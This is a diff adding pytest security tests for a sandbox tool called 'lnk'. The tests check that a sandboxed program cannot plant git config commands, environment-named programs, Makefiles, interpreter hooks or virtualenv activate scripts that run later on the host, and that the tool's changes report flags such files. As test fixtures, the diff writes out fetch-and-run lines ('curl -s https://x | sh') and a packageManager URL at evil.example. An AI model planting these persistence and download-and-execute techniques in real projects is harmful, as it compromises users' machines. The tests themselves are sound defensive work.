@@ -21,6 +21,7 @@ attack_helpers.py; a new attack: docs/HACKING.md, "Add an attack test").
 #   G. Tools, dialogs and lnk itself, run outside
 #   H. Escapes in lnk's own output
 #   I. Completions in the user's shell
+#   J. The changes report
 
 import json
 import os
@@ -478,6 +479,41 @@ def test_git_config_programs_in_a_write_folder_protected(
         assert not t.exists(), cp.stderr
 
 
+# Keys of git-config(1) (and git-archive(1)) whose value git runs, missing
+# from rule C's table: written into the user's ~/.gitconfig, naming a
+# program in the project (a write folder).
+MORE_GIT_KEYS = [
+    ("core", "alternateRefsCommand", "{work}/tools/refs", "tools/refs"),
+    ('guitool "lint"', "cmd", "{work}/tools/lint", "tools/lint"),
+    ("imap", "tunnel", "{work}/tools/tunnel --x", "tools/tunnel"),
+    ('tar "tar.xz"', "command", "{work}/tools/xz -c", "tools/xz"),
+    ("instaweb", "httpd", "{work}/tools/httpd", "tools/httpd"),
+    ("instaweb", "browser", "{work}/tools/browser", "tools/browser"),
+]
+
+
+@pytest.mark.parametrize("section,key,value,target", MORE_GIT_KEYS,
+                         ids=[f"{s.split()[0]}.{k}" for s, k, _, _ in
+                              MORE_GIT_KEYS])
+def test_more_git_keys_that_run_programs_protected(lnk, home, work, section,
+                                                   key, value, target):
+    """Invariant 8 (what runs outside later), promise: git's directories, every
+    repository the top one knows, and what a config names are kept.
+
+    Threat (rule C): the user's ~/.gitconfig names a program inside the
+    project under a key the table did not know (git gui's Tools menu, git
+    imap-send's tunnel, git archive's compressor, the alternates' refs
+    command, git instaweb's server and browser): the program writes it,
+    and the user's next such git runs it outside, as the user."""
+    (home / ".gitconfig").write_text(
+        f"[{section}]\n\t{key} = {value.format(work=work)}\n")
+    t = work / target
+    cp = sh_to_the_end(
+        lnk, f"mkdir -p {os.path.dirname(target) or '.'}; "
+        f"echo 'touch ~/pwned' >> {target}; true", "--write", work)
+    assert not t.exists(), cp.stderr
+
+
 def test_git_config_the_environment_names_is_read_for_programs(lnk, work):
     """Invariant 8 (what runs outside later), promise: git's directories, every
     repository the top one knows, and what a config names are kept.
@@ -822,6 +858,42 @@ def test_configuration_the_environment_names_protected(
         assert t.read_text() == "# mine\n", cp.stderr
     else:
         assert not t.exists(), cp.stderr
+
+
+# Variables of the user's environment that name a program or a folder git
+# (or sudo, man, a browser opener) runs, missing from rule E's table.
+MORE_ENV = [
+    ("GIT_EXTERNAL_DIFF", "tools/diff", "tools/diff"),
+    ("GIT_SEQUENCE_EDITOR", "tools/seq", "tools/seq"),
+    ("GIT_TEMPLATE_DIR", "tmpl", "tmpl/hooks/post-checkout"),
+    ("GIT_EXEC_PATH", "libexec", "libexec/git-status"),
+    ("SUDO_ASKPASS", "tools/askpass", "tools/askpass"),
+    ("MANPAGER", "tools/pager", "tools/pager"),
+    ("BROWSER", "tools/browser", "tools/browser"),
+    ("PIP_CONFIG_FILE", "pip.conf", "pip.conf"),
+]
+
+
+@pytest.mark.parametrize("var,value,target", MORE_ENV,
+                         ids=[v for v, _, _ in MORE_ENV])
+def test_more_programs_the_environment_names_protected(lnk, work, var, value,
+                                                       target):
+    """Invariant 8 (what runs outside later), promise: the folders of the
+    user's PATH and the files the environment names are kept, and what cannot
+    be kept is reported.
+
+    Threat (rule E): the user's GIT_EXTERNAL_DIFF (GIT_SEQUENCE_EDITOR,
+    GIT_TEMPLATE_DIR, GIT_EXEC_PATH, SUDO_ASKPASS, MANPAGER, BROWSER,
+    PIP_CONFIG_FILE) names a program or folder in the project: the program
+    plants it, and the user's next git diff, rebase, init, git command,
+    sudo -A (given the password), man or link opened runs it (or installs
+    from the index it names), outside."""
+    t = work / target
+    cp = sh_to_the_end(
+        lnk, f"mkdir -p {os.path.dirname(target) or '.'}; "
+        f"echo 'touch ~/pwned' >> {target}; true", "--write", work,
+        env={var: str(work / value)})
+    assert not t.exists(), cp.stderr
 
 
 # =============================================================================
@@ -1323,6 +1395,99 @@ def test_library_left_in_the_working_folder_never_loads_outside(
     assert cp.returncode == 0, (cp.returncode, cp.stdout, cp.stderr)
 
 
+@pytest.mark.xfail(strict=True, reason=(
+    "the folder rule accepts a write folder's top because its dot files are "
+    "kept; a build tool's configuration there is the project's own files "
+    "(Makefile, package.json, build.rs, conftest.py), which the program "
+    "writes: a design change (a tool acts at a write folder's top only when "
+    "lnk knows its configuration there is kept, as git's .git is), not a "
+    "small fix"))
+def test_granted_build_tool_never_runs_what_the_program_wrote(lnk, work,
+                                                               tmp_path):
+    """Invariant 8 (what runs outside later), promise: a tool, a dialog tool
+    and lnk itself run outside and run or load nothing the program can write.
+
+    Threat (the tools' folder rule: a tool never acts where the program
+    could have made its configuration): with only `make test` granted, the
+    program rewrites the Makefile at the top of its write folder (no dot
+    file: nothing keeps it) and calls the tool: make, outside, as the
+    user, runs the program's recipe. The same with `npm test`
+    (package.json), `cargo build` (build.rs), `pytest` (conftest.py)."""
+    (work / "Makefile").write_text("test:\n\ttrue\n")
+    mark = tmp_path / "OUTSIDE_MARK"  # outside every grant
+    cp = lnk.run("--write", work, "--tool", "make test", "--", "/bin/sh",
+                 "-c", f"cd '{work}' && printf 'test:\\n\\ttouch {mark}\\n' "
+                 f"> Makefile; make test; echo st=$?")
+    assert "st=" in cp.stdout, cp.stderr
+    assert not mark.exists(), (cp.stdout, cp.stderr)
+
+
+TOOL_ENV_CASES = [
+    # variable, its value ({work} the write folder), what the program
+    # writes there, the interpreter the tool runs
+    ("PERL5OPT", "-I{work}/lib -Mevil", "lib/evil.pm",
+     'system("touch {mark}"); 1;', "perl -e 'print qq(tool-ran\\n)'"),
+    ("NODE_OPTIONS", "--require {work}/hook.js", "hook.js",
+     'require("fs").writeFileSync("{mark}", "")',
+     "node -e 'console.log(\"tool-ran\")'"),
+]
+
+
+@pytest.mark.parametrize("var,value,target,text,run", TOOL_ENV_CASES,
+                         ids=[c[0] for c in TOOL_ENV_CASES])
+def test_tool_environment_names_no_file_of_the_program(lnk, work, tmp_path,
+                                                       var, value, target,
+                                                       text, run):
+    """Invariant 8 (what runs outside later), promise: a tool, a dialog tool
+    and lnk itself run outside and run or load nothing the program can write.
+
+    Threat: lnk's environment holds an interpreter's options that name a
+    file in the project (PERL5OPT=-I~/code/app/lib -Mdev,
+    NODE_OPTIONS=--require ~/code/app/hook.js, set by direnv): the tools
+    broker dropped a variable naming a write folder only when its value
+    (or a ':' piece of it) started with that path, so an option word
+    naming it reached the tool, and a granted tool's perl or node loaded
+    the program's module, outside, as the user."""
+    mark = tmp_path / "OUTSIDE_MARK"
+    on_lnk_path(lnk, tmp_path / "toolbin", "mytool",
+                f"#!/bin/sh\nexec {run}\n",
+                **{var: value.format(work=work)})
+    script = (f"mkdir -p '{work}/{os.path.dirname(target) or '.'}' && "
+              f"printf '%s\\n' '{text.format(mark=mark)}' > '{work}/{target}'"
+              f" && mytool run")
+    cp = lnk.run("--write", work, "--tool", "mytool run", "--", "/bin/sh",
+                 "-c", script)
+    assert "tool-ran" in cp.stdout, (cp.stdout, cp.stderr)
+    assert not mark.exists(), (cp.stdout, cp.stderr)
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "a relative path in an interpreter's option word (PERL5OPT=-Ilib, "
+    "NODE_OPTIONS=--require ./x.js) is read from the tool's folder, the top "
+    "of a write folder; which words are paths is each interpreter's own "
+    "grammar: proposed, leave the option variables of a table (PERL5OPT, "
+    "NODE_OPTIONS, RUBYOPT, JAVA_TOOL_OPTIONS, JDK_JAVA_OPTIONS, "
+    "_JAVA_OPTIONS) out of a tool's environment whenever a word of theirs "
+    "is not an absolute path outside the write folders"))
+def test_tool_environment_relative_option_path(lnk, work, tmp_path):
+    """Invariant 8 (what runs outside later), promise: a tool, a dialog tool
+    and lnk itself run outside and run or load nothing the program can write.
+
+    Threat: lnk's PERL5OPT is `-Ilib -Mdev` (a developer's, for their
+    project); a granted tool running perl starts at the top of the write
+    folder, where lib/dev.pm is the program's."""
+    mark = tmp_path / "OUTSIDE_MARK"
+    on_lnk_path(lnk, tmp_path / "toolbin", "mytool",
+                "#!/bin/sh\nexec perl -e 'print qq(tool-ran\\n)'\n",
+                PERL5OPT="-Ilib -Mdev")
+    cp = lnk.run("--write", work, "--tool", "mytool run", "--", "/bin/sh",
+                 "-c", f"cd '{work}' && mkdir -p lib && "
+                 f"echo 'system(\"touch {mark}\"); 1;' > lib/dev.pm && "
+                 "mytool run")
+    assert "tool-ran" in cp.stdout, (cp.stdout, cp.stderr)
+    assert not mark.exists(), (cp.stdout, cp.stderr)
+
+
 # =============================================================================
 # H. Escapes in lnk's own output
 #    Promise: what lnk prints of what others chose is escaped: no escape
@@ -1691,3 +1856,300 @@ def test_complete_prints_only_names_of_the_grammar(lnk, home):
         assert out == "good-name\n", out
     finally:
         p.communicate(b"\n", timeout=60)
+
+
+# =============================================================================
+# J. The changes report
+#    Promise: the changes report names every file the program left that a
+#    program on the host runs or trusts later.
+# =============================================================================
+
+
+def changes_flags(lnk, name):
+    """The flags of sandbox NAME's changes report: path -> reason."""
+    cp = lnk("sandbox", "changes", name, "--json")
+    assert cp.returncode == 0, cp.stderr
+    reports = [json.loads(x) for x in cp.stdout.splitlines()]
+    assert reports, cp.stdout
+    return {f["path"]: f["reason"]
+            for f in reports[0]["folders"][0]["flags"]}
+
+
+LINKED_NAMES = r"""
+set -e
+printf 'all:\n\ttouch /tmp/pwned\n' > evil.mk; ln -s evil.mk Makefile
+echo 'import os' > cf.py; ln -s cf.py conftest.py
+echo '{"scripts":{"postinstall":"id"}}' > p.json; ln -s p.json package.json
+echo 'import os' > rl.py; ln -s rl.py readline.py
+mkdir sub; echo 'x' > sub/y.txt; ln -s y.txt sub/eslint.config.js
+echo 'import os' > sc.py; ln -s ../sc.py sub/sitecustomize.py
+mkdir -p repo/.git/modules/m; echo 'ref: x' > repo/.git/HEAD
+printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' > repo/notes.txt
+ln -s ../../../notes.txt repo/.git/modules/m/config
+"""
+
+
+def test_a_link_named_like_what_runs_later_is_flagged(lnk, work):
+    """Invariant 8 (what runs outside later), promise: the changes report names
+    every file the program left that a program on the host runs or trusts
+    later.
+
+    Threat: make, pytest, npm, python and git follow a link: `Makefile ->
+    evil.mk` runs evil.mk at the next make. The report judged a link only
+    by where its text points, and its rows by a regular file's name: a
+    link named Makefile, conftest.py, package.json, readline.py,
+    eslint.config.js, sitecustomize.py or a git config, to a file of an
+    innocent name inside the folder, was counted and named nowhere."""
+    cp = lnk.run("--write", work, "--name", "linked", "--", "/bin/sh", "-c",
+                 LINKED_NAMES)
+    assert cp.returncode == 0, cp.stderr
+    flags = changes_flags(lnk, "linked")
+    for path in ("Makefile", "conftest.py", "package.json", "readline.py",
+                 "sub/eslint.config.js", "sub/sitecustomize.py",
+                 "repo/.git/modules/m/config"):
+        assert path in flags, (path, flags)
+        assert f"project/{path}: " in cp.stderr, cp.stderr
+
+
+VENV = r"""
+set -e
+echo 'curl -s https://x | sh' >> .venv/bin/activate
+echo 'eval "$(curl -s https://x)"' > .venv/bin/activate.fish
+printf 'home = %s/evil/bin\n' "$PWD" > .venv/pyvenv.cfg
+"""
+
+
+def test_virtualenv_activate_and_its_settings_flagged(lnk, work):
+    """Invariant 8 (what runs outside later), promise: the changes report names
+    every file the program left that a program on the host runs or trusts
+    later.
+
+    Threat: `source .venv/bin/activate` runs that file in the user's own
+    shell, and `home` in pyvenv.cfg names where the environment's python
+    finds its standard library (site.py, encodings: run at every start).
+    Neither is executable, so a program that rewrote them was counted and
+    named nowhere; the user's next activation ran its code."""
+    venv = work / ".venv"
+    (venv / "bin").mkdir(parents=True)
+    (venv / "pyvenv.cfg").write_text("home = /usr/bin\n")
+    (venv / "bin" / "activate").write_text("# activate\n")
+    (venv / "bin" / "python").symlink_to("/usr/bin/python3")
+    cp = lnk.run("--write", work, "--name", "venv", "--", "/bin/sh", "-c",
+                 f"cd '{work}' && {VENV}")
+    assert cp.returncode == 0, cp.stderr
+    flags = changes_flags(lnk, "venv")
+    for path in (".venv/bin/activate", ".venv/bin/activate.fish",
+                 ".venv/pyvenv.cfg"):
+        assert path in flags, (path, flags)
+
+
+# Files a tool or an editor started in the project runs (or trusts to say
+# what it runs), missing from the report's table: name -> a word of the
+# reason the report must give.
+MORE_RUN_LATER = {
+    "app.code-workspace": "VS Code",
+    ".venv/pip.conf": "pip",
+    ".pylintrc": "pylint",
+    "pylintrc": "pylint",
+    "pytest.ini": "pytest",
+    "mypy.ini": "mypy",
+    ".mypy.ini": "mypy",
+    "Vagrantfile": "vagrant",
+    "flake.nix": "nix",
+    "shell.nix": "nix",
+    "devbox.json": "devbox",
+    "docker-compose.yml": "docker compose",
+    "compose.yaml": "docker compose",
+    "Package.swift": "swift",
+    "build.sbt": "sbt",
+    "mix.exs": "mix",
+    ".bazelrc": "bazel",
+    ".rspec": "rspec",
+    ".rubocop.yml": "rubocop",
+    "bunfig.toml": "bun",
+    "deno.json": "deno",
+}
+
+
+def test_more_files_that_run_later_are_flagged(lnk, work):
+    """Invariant 8 (what runs outside later), promise: the changes report names
+    every file the program left that a program on the host runs or trusts
+    later.
+
+    Threat: the program leaves a file that a tool or an editor started in
+    the project runs or obeys: pylint's init-hook, pytest's and mypy's
+    plugins, a VS Code workspace's tasks, a virtualenv's pip.conf (the
+    index the next pip install trusts), a Vagrantfile, a nix shell's
+    shellHook, a compose file's privileged service, Swift's and sbt's build
+    manifests (run as soon as an editor opens the folder). None was
+    flagged."""
+    (work / ".venv").mkdir()
+    (work / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
+    script = "; ".join(f"echo 'x' > '{n}'" for n in MORE_RUN_LATER)
+    cp = lnk.run("--write", work, "--name", "more", "--", "/bin/sh", "-c",
+                 f"cd '{work}' && {script}")
+    assert cp.returncode == 0, cp.stderr
+    flags = changes_flags(lnk, "more")
+    missing = [n for n in MORE_RUN_LATER if n not in flags]
+    assert not missing, (missing, cp.stderr)
+    for name, word in MORE_RUN_LATER.items():
+        assert word in flags[name], (name, flags[name])
+
+
+# Keys of the table of rule C (src/guard/gitkeys.c) that the changes
+# report's reading of a git config (src/changes/gitcfg.c) did not know:
+# each written into an existing repository below the top of a write folder.
+CONFIG_KEYS = [
+    ("pager", "log"), ('remote "origin"', "uploadpack"),
+    ('merge "x"', "driver"), ("interactive", "diffFilter"),
+    ('difftool "x"', "cmd"), ('mergetool "x"', "path"),
+    ('submodule "m"', "update"), ("core", "attributesFile"),
+    ("init", "templateDir"), ("web", "browser"), ('man "x"', "cmd"),
+    ("sendemail", "sendmailCmd"), ("uploadpack", "packObjectsHook"),
+    ('guitool "x"', "cmd"), ("imap", "tunnel"),
+    ("core", "alternateRefsCommand"),
+]
+
+
+def test_config_keys_the_report_reads_are_rule_cs(lnk, work):
+    """Invariant 8 (what runs outside later), promise: the changes report names
+    every file the program left that a program on the host runs or trusts
+    later.
+
+    Threat: the user's own repository lies below the top of the write
+    folder (~/code/app/.git with --write ~/code); the program appends
+    `[pager] log = CMD` (remote.origin.uploadpack, a merge driver, ...) to
+    its config, in place: the folder .git is unchanged, and the report
+    read the config for a dozen keys only, so nothing was named; the
+    user's next git log (fetch, merge, ...) there ran CMD."""
+    repo = work / "app" / ".git"
+    (repo / "objects").mkdir(parents=True)
+    (repo / "refs").mkdir()
+    (repo / "HEAD").write_text("ref: refs/heads/main\n")
+    (repo / "config").write_text("[core]\n\tbare = false\n")
+    ctime = os.stat(repo).st_ctime_ns
+    while time.clock_gettime_ns(getattr(time, "CLOCK_REALTIME_COARSE", 5)) \
+            <= ctime:
+        pass
+    lines = "".join(f"[{s}]\n\t{k} = !touch /tmp/pwned\n"
+                    for s, k in CONFIG_KEYS)
+    cp = lnk.run("--write", work, "--name", "cfgkeys", "--", "/bin/sh", "-c",
+                 f"printf '%s' '{lines}' >> '{repo}/config'")
+    assert cp.returncode == 0, cp.stderr
+    flags = changes_flags(lnk, "cfgkeys")
+    assert "app/.git" not in flags, flags  # the folder did not change
+    why = flags.get("app/.git/config", "")
+    for s, k in CONFIG_KEYS:
+        sec = s.split()[0]
+        assert f"{sec}." in why and f"{k.lower()}" in why.lower(), \
+            (s, k, why)
+
+
+def test_repository_whose_objects_are_elsewhere_flagged(lnk, work):
+    """Invariant 8 (what runs outside later), promise: the changes report names
+    every file the program left that a program on the host runs or trusts
+    later.
+
+    Threat: git takes a folder holding HEAD and a `commondir` file for a
+    repository, with its objects, refs and config in the folder commondir
+    names. The program leaves x/HEAD, x/commondir (../y) and y/config with
+    `alias.st = !CMD` (the repository's alias wins over the user's own
+    `st`); the report looked for a bare repository only where HEAD,
+    objects and refs lie together, and named nothing. The user's next
+    `git st` in x ran CMD."""
+    cp = lnk.run("--write", work, "--name", "common", "--", "/bin/sh", "-c",
+                 "mkdir -p y/objects y/refs x && "
+                 "printf '[alias]\\n\\tst = !touch /tmp/pwned\\n' > y/config"
+                 " && echo 'ref: refs/heads/main' > x/HEAD && "
+                 "echo ../y > x/commondir", cwd=work)
+    assert cp.returncode == 0, cp.stderr
+    flags = changes_flags(lnk, "common")
+    assert "x/HEAD" in flags, (flags, cp.stderr)
+    assert "bare repository" in flags["x/HEAD"]
+
+
+BTRFS = r"""
+set -e
+truncate -s 200M '{img}'
+mkfs.btrfs -q '{img}' >/dev/null
+mount -o loop '{img}' '{mnt}'
+trap "cd /; umount '{mnt}'" EXIT
+mkdir '{mnt}/proj'
+btrfs -q subvolume create '{mnt}/proj/sub'
+sleep 0.02
+cd '{mnt}/proj'
+'{lnk}' sandbox run --write . --name btrfs -- /bin/sh -c '
+    btrfs subvolume create .git 2>&1 || true
+    mkdir -p sub/repo/.git
+    printf "[core]\n\tfsmonitor = touch /tmp/pwned\n" > sub/repo/.git/config'
+test ! -e .git
+"""
+
+
+def test_btrfs_subvolume_neither_made_nor_skipped(lnk, home, tmp_path):
+    """Invariant 8 (what runs outside later), promise: the changes report names
+    every file the program left that a program on the host runs or trusts
+    later.
+
+    Threat, on btrfs (Fedora's and openSUSE's default): what the program
+    leaves in an existing subvolume of its write folder (another device
+    number, but no mount: the program writes there) was skipped by the
+    walk; and the program must not make the top's .git as a subvolume
+    (invariant 2, test_inv2_writes.py::test_subvolume_calls_refused)."""
+    if not IS_ROOT:
+        pytest.skip("mounting a btrfs image needs root; "
+                    "test_inv2_writes.py::test_subvolume_calls_refused covers "
+                    "the user")
+    if not shutil.which("mkfs.btrfs") or not shutil.which("btrfs"):
+        pytest.skip("btrfs-progs is not installed")
+    mnt = tmp_path / "mnt"
+    mnt.mkdir()
+    cp = subprocess.run(
+        ["unshare", "-m", "--propagation", "private", "/bin/sh", "-c",
+         BTRFS.format(img=tmp_path / "bt.img", mnt=mnt, lnk=lnk.bin)],
+        env=lnk.env(), capture_output=True, text=True, timeout=120)
+    assert cp.returncode == 0, (cp.stdout, cp.stderr)
+    flags = changes_flags(lnk, "btrfs")
+    assert "sub/repo/.git" in flags, (flags, cp.stderr)
+
+
+def test_folder_that_can_be_listed_but_not_searched_is_named(lnk, work):
+    """Invariant 8 (what runs outside later), promise: the changes report names
+    every file the program left that a program on the host runs or trusts
+    later.
+
+    Threat: the program leaves a repository in sub/ and makes sub readable
+    but not searchable (chmod 0400): as a user, lnk lists its names but
+    cannot look at any of them, and the walk took each for gone, so
+    nothing was named (a folder closed whole, chmod 0, is). The user's
+    `chmod 755 sub; cd sub` then runs its core.fsmonitor. As root lnk
+    looks inside and names the repository itself."""
+    cp = lnk.run("--write", work, "--name", "noexec", "--", "/bin/sh", "-c",
+                 "mkdir -p sub/.git && echo 'ref: x' > sub/.git/HEAD && "
+                 "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > "
+                 "sub/.git/config && chmod 0400 sub", cwd=work)
+    try:
+        assert cp.returncode == 0, cp.stderr
+        flags = changes_flags(lnk, "noexec")
+        assert "sub" in flags or "sub/.git" in flags, (flags, cp.stderr)
+    finally:
+        (work / "sub").chmod(0o755)  # so pytest can remove it
+
+
+def test_package_json_naming_a_package_manager_flagged(lnk, work):
+    """Invariant 8 (what runs outside later), promise: the changes report names
+    every file the program left that a program on the host runs or trusts
+    later.
+
+    Threat: a package.json without scripts but with `"packageManager":
+    "yarn@https://host/x.tgz"`: corepack downloads and runs that archive
+    as the user's next yarn (or pnpm) in the folder. The report read a
+    package.json for its scripts only, and named nothing."""
+    (work / "package.json").write_text('{"name":"app"}\n')
+    cp = lnk.run("--write", work, "--name", "pm", "--", "/bin/sh", "-c",
+                 "printf '%s\\n' '{\"name\":\"app\",\"packageManager\":"
+                 "\"yarn@https://evil.example/yarn.tgz\"}' > package.json",
+                 cwd=work)
+    assert cp.returncode == 0, cp.stderr
+    flags = changes_flags(lnk, "pm")
+    assert "packageManager" in flags.get("package.json", ""), flags
